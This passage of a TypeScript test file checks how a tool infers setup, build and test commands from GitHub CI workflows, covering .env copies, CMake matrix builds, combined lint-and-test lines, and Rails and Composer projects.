    expect(cpuMsSince(began)).toBeLessThan(3_000);
  });
});

describe('what CI does before the tests with files that git does not hold', () => {
  const app = (
    steps: string,
    scripts: Readonly<Record<string, string>> = { test: 'vitest run', build: 'tsc' },
  ) =>
    detect(
      {
        'package.json': JSON.stringify({ scripts, devDependencies: { vitest: '3' } }),
        [CI]: workflow(steps),
      },
      ...['package-lock.json', '.env.example', 'api/.env.example', 'config/ci.yml', 'config/app.yml'],
    );

  test('is done, too, where package.json names set-up and tests', () => {
    const steps = run('cp .env.example .env', 'npm ci', 'npx prisma generate', 'npm test', 'npm run codegen');
    expect(app(steps).commands).toEqual({
      setup: 'npm ci --no-audit --no-fund && cp .env.example .env',
      build: 'npx prisma generate && npm run build',
      test: 'npm test',
    });
    expect(app(steps, { test: 'vitest run' })).toMatchObject({
      commands: { build: 'npx prisma generate' },
      from: { setup: 'package.json', build: CI, test: 'package.json' },
    });
  });

  test('is left out if it replaces a file of the repository, needs another, or is more than a plain copy', () => {
    const steps = run(
      'cp config/ci.yml config/app.yml',
      'cp config/ci.yml config',
      'cp secrets.example .env',
      'cp .env.example missing/.env',
      'cp .env.example ../.env',
      'cp -r config copy',
      'mkdir coverage',
      'npm run codegen:docs',
      'npm test',
    );
    expect(app(steps).commands).toEqual({
      setup: 'npm ci --no-audit --no-fund',
      build: 'npm run build',
      test: 'npm test',
    });
  });

  test('is done in its folder', () => {
    const { setup } = app(run('cd api && cp .env.example .env', 'npm test')).commands;
    expect(setup).toBe('npm ci --no-audit --no-fund && (cd api && cp .env.example .env)');
  });
});

describe('the workflows that GitHub offers for CMake', () => {
  const cmake = (steps: string, job = '') =>
    detect({ [CI]: workflow(steps, job) }, 'CMakeLists.txt').commands;
  const ctest = '(cd build && ctest -C Release)';

  test('for one system', () => {
    const steps = `      - run: cmake -B \${{github.workspace}}/build -DCMAKE_BUILD_TYPE=\${{env.TYPE}} -DTO=\${{github.workspace}}/out
      - run: cmake --build \${{github.workspace}}/build --config \${{env.TYPE}}
      - working-directory: \${{github.workspace}}/build
        run: ctest -C \${{env.TYPE}}
`;
    expect(cmake(steps, '    env: { TYPE: Release }\n')).toEqual({
      build:
        'cmake -B ./build -DCMAKE_BUILD_TYPE=Release -DTO=$PWD/out && cmake --build ./build --config Release',
      test: ctest,
    });
  });

  test('for several systems, with the compiler of Linux', () => {
    const matrix = `    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
        type: [Release]
        c: [gcc, cl]
        include:
          - { os: windows-latest, c: cl, cpp: cl }
          - { os: ubuntu-latest, c: gcc, cpp: g++ }
`;
    const steps = `      - id: strings
        shell: bash
        run: |
          echo "out=\${{ github.workspace }}/build" >> "$GITHUB_OUTPUT"
      - run: >
          cmake -B \${{ steps.strings.outputs.out }}
          -DCMAKE_CXX_COMPILER=\${{ matrix.cpp }}
          -S \${{ github.workspace }}
      - working-directory: \${{ steps.strings.outputs.out }}
        run: ctest -C \${{ matrix.type }} && cmake -E true \${{ github.workspace }} && make -C $GITHUB_WORKSPACE test
`;
    expect(cmake(steps, matrix)).toEqual({
      build: 'cmake -B ./build -DCMAKE_CXX_COMPILER=g++ -S . && (cd build && cmake -E true ..)',
      test: `${ctest} && (cd build && make -C .. test)`,
    });
  });
});

describe('a line of CI that tests and does more is read', () => {
  const tested = (line: string) => detect({ [CI]: workflow(run(line)) }).commands.test;

  test.each([
    ['make lint test', 'make test'],
    ['./gradlew lint test', './gradlew test'],
    ['make lint test 2>&1 | tee log', 'make test'],
    ['pnpm turbo run lint test build', 'pnpm turbo run test build'],
    ['npx nx run-many -t lint,test,build', 'npx nx run-many -t test build'],
    ['npx nx run-many --targets=lint test e2e --parallel=3', 'npx nx run-many -t test --parallel=3'],
    ['mise exec -- npm test', 'npm test'],
    ['nix develop -c make test', 'make test'],
    ['nix develop .#ci --command make test', 'make test'],
    ['docker compose run --rm -T web npm test', 'npm test'],
  ])('%s', (line, command) => {
    expect(tested(line)).toBe(command);
  });

  test.each([
    'poe test',
    'invoke test',
    'sbt +test',
    'script/cibuild',
    'ci/test.sh',
    './gradlew testDebugUnitTest',
    './gradlew :app:testReleaseUnitTest',
    'make -j 2 test',
    'npm test -- --testPathIgnorePatterns e2e',
  ])('%s', (line) => {
    expect(tested(line)).toBe(line);
  });

  test.each([
    'make lint',
    'make -C docs test',
    'make -C e2e lint',
    'docker compose run web bash',
    'ci/lint.sh',
  ])('%s is no test', (line) => {
    expect(tested(line)).toBeUndefined();
  });
});

describe('what Rails and Composer need', () => {
  const ruby = `      - uses: ruby/setup-ruby@v1
        with: { ruby-version: 3.4, bundler-cache: true }
`;
  const rails = { Gemfile: 'gem "rails"', Rakefile: 'Rails.application.load_tasks # test' };
  const recipe = (steps: string) =>
    detect({ ...rails, [CI]: workflow(`${ruby}${steps}`) }, 'test/models/user_test.rb').others[0]?.commands;

  test('tasks that prepare the database run beside it, before the tests, without those in a browser', () => {
    const env = '        env: { RAILS_ENV: test }\n';
    expect(recipe(`${run('bin/rails db:test:prepare test test:system')}${env}`)).toEqual({
      setup: 'bundle config set --local path vendor/bundle && bundle install',
      test: 'RAILS_ENV=test bin/rails db:test:prepare test',
    });
    expect(recipe(run('bin/rails db:schema:load', 'bin/rake'))?.test).toBe(
      'bin/rails db:schema:load && bin/rake',
    );
    expect(recipe(run('bundle exec rails db:test:prepare', 'bin/rails test:system'))).toBeUndefined();
  });

  test('an action that installs is set-up', () => {
    const steps = '      - uses: ramsey/composer-install@v3\n';
    const read = { 'composer.json': '{}', [CI]: workflow(`${steps}${run('composer test')}`) };
    expect(detect(read).commands).toEqual({
      setup: 'composer install --no-interaction --no-progress',
      test: 'composer test',
    });
  });
});
